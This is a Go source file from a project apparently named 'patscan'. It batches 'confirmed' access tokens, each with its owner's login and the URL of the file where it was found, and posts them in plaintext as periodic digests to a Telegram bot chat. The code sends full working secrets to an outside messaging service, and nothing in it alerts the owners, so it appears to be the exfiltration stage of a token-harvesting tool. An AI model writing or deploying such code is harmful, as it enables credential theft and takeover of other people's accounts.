// Package notify batches human-facing alerts about confirmed keys.
package notify

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"log/slog"
	"net/http"
	"strings"
	"sync"
	"time"

	"patscan/internal/clock"
)

const (
	defaultBaseURL  = "https://api.telegram.org"
	defaultInterval = time.Hour
	// Telegram caps messages at 4096 chars; staying under 3500 leaves room
	// for the part header.
	maxChunk = 3500
)

// Telegram accumulates confirmed-key summaries and sends them as periodic
// digests rather than one message per hit.
type Telegram struct {
	http     *http.Client
	botToken string
	chatID   string
	baseURL  string
	interval time.Duration
	clk      clock.Clock

	mu       sync.Mutex
	pending  []string
	lastSend time.Time
}

type Option func(*Telegram)

func WithBaseURL(url string) Option {
	return func(t *Telegram) { t.baseURL = strings.TrimRight(url, "/") }
}

func WithInterval(d time.Duration) Option {
	return func(t *Telegram) { t.interval = d }
}

func NewTelegram(hc *http.Client, botToken, chatID string, clk clock.Clock, opts ...Option) *Telegram {
	t := &Telegram{
		http:     hc,
		botToken: botToken,
		chatID:   chatID,
		baseURL:  defaultBaseURL,
		interval: defaultInterval,
		clk:      clk,
		lastSend: clk.Now(),
	}
	for _, opt := range opts {
		opt(t)
	}
	return t
}

func (t *Telegram) QueueValid(token, login, fileURL string) {
	entry := fmt.Sprintf("TOKEN: %s\nUSER: %s\nFROM: %s\n", token, login, fileURL)
	t.mu.Lock()
	t.pending = append(t.pending, entry)
	t.mu.Unlock()
}

// FlushDue sends the accumulated digest once per interval. Entries queued
// between digests keep accumulating; a send failure re-queues nothing, the
// durable record lives in the key files.
func (t *Telegram) FlushDue(ctx context.Context) {
	t.mu.Lock()
	now := t.clk.Now()
	if now.Sub(t.lastSend) < t.interval || len(t.pending) == 0 {
		t.mu.Unlock()
		return
	}
	entries := t.pending
	t.pending = nil
	t.lastSend = now
	t.mu.Unlock()

	header := fmt.Sprintf("Confirmed tokens digest (%s)\nNew this period: %d\n\n",
		now.Format("2006-01-02 15:04 MST"), len(entries))
	chunks := chunk(header+strings.Join(entries, "\n"), maxChunk)

	for i, text := range chunks {
		if len(chunks) > 1 {
			text = fmt.Sprintf("part %d/%d\n%s", i+1, len(chunks), text)
		}
		if err := t.send(ctx, text); err != nil {
			slog.WarnContext(ctx, "telegram send failed", "part", i+1, "error", err)
			return
		}
		if i < len(chunks)-1 {
			t.clk.Sleep(time.Second)
		}
	}
	slog.InfoContext(ctx, "telegram digest sent", "entries", len(entries), "parts", len(chunks))
}

func (t *Telegram) send(ctx context.Context, text string) error {
	body, err := json.Marshal(map[string]string{
		"chat_id": t.chatID,
		"text":    text,
	})
	if err != nil {
		return err
	}

	url := fmt.Sprintf("%s/bot%s/sendMessage", t.baseURL, t.botToken)
	req, err := http.NewRequestWithContext(ctx, http.MethodPost, url, bytes.NewReader(body))
	if err != nil {
		return err
	}
	req.Header.Set("Content-Type", "application/json")

	resp, err := t.http.Do(req)
	if err != nil {
		return err
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		return fmt.Errorf("sendMessage: status %d", resp.StatusCode)
	}
	return nil
}

// chunk splits text at line boundaries so no piece exceeds limit. A single
// line longer than the limit is split mid-line.
func chunk(text string, limit int) []string {
	if len(text) <= limit {
		return []string{text}
	}

	var chunks []string
	var buf strings.Builder
	for _, line := range strings.SplitAfter(text, "\n") {
		for len(line) > limit {
			if buf.Len() > 0 {
				chunks = append(chunks, buf.String())
				buf.Reset()
			}
			chunks = append(chunks, line[:limit])
			line = line[limit:]
		}
		if buf.Len()+len(line) > limit {
			chunks = append(chunks, buf.String())
			buf.Reset()
		}
		buf.WriteString(line)
	}
	if buf.Len() > 0 {
		chunks = append(chunks, buf.String())
	}
	return chunks
}

// Noop satisfies the notifier contract when no bot is configured.
type Noop struct{}

func (Noop) QueueValid(token, login, fileURL string) {}
func (Noop) FlushDue(ctx context.Context)            {}
